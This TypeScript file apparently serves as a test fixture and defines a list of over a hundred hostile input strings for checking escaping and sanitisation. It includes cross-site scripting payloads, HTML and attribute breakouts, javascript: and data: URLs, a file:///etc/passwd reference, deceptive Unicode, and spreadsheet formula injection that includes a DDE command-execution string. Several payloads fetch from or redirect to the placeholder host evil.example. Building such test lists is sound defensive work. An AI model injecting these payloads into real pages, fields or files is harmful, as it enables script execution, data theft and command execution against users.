/** Texts that would do something if any of them were read as HTML, SVG, CSS, an address or a formula: over a hundred. */
export const HOSTILE: readonly string[] = [...tags(), ...breakouts(), ...addresses(), ...invisible(), ...formulas()];

function tags(): readonly string[] {
  const acts = ["alert(1)", "document.title='hacked'", "fetch('//evil.example')"];
  return acts.flatMap((act) => [
    `<script>${act}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>${act}`,
    `<img src=x onerror=${act}>`,
    `<svg onload=${act}>`,
    `<svg><script>${act}</script></svg>`,
    `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    `<svg><foreignObject><iframe src="javascript:${act}"></iframe></foreignObject></svg>`,
    `<iframe srcdoc="<script>${act}</script>">`,
    `<body onload=${act}>`,
    `<details open ontoggle=${act}>`,
    `<video><source onerror=${act}>`,
    `<math><mtext></table><img src onerror=${act}>`,
    `<input autofocus onfocus=${act}>`,
    `<form action="javascript:${act}"><button>x`,
    `<object data="javascript:${act}">`,
    `<embed src="javascript:${act}">`,
    `<marquee onstart=${act}>`,
  ]);
}

function breakouts(): readonly string[] {
  return [
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" style="background:url(//evil.example)" x="',
    "</td></tr></table><h1>hacked</h1>",
    "</main></body></html><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<a href=//evil.example>klik</a>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&",
    "{{constructor.constructor('alert(1)')()}}",
    ["$", "{alert(1)}"].join(""),
  ];
}

function addresses(): readonly string[] {
  return [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://ombudsman.go.id@evil.example/",
    'https://evil.example/"onclick="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "blob:https://evil.example/x",
    "ftp://evil.example/x",
  ];
}

function invisible(): readonly string[] {
  return ["a\u202Egpj.exe", "a\u0000b", "a\u001B[2Jb", "a\u200Bb", "a\uFEFFb", "a\u2028b", "\u0085x", "a\r\nb"];
}

function formulas(): readonly string[] {
  return ['=HYPERLINK("//evil.example")', "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
}
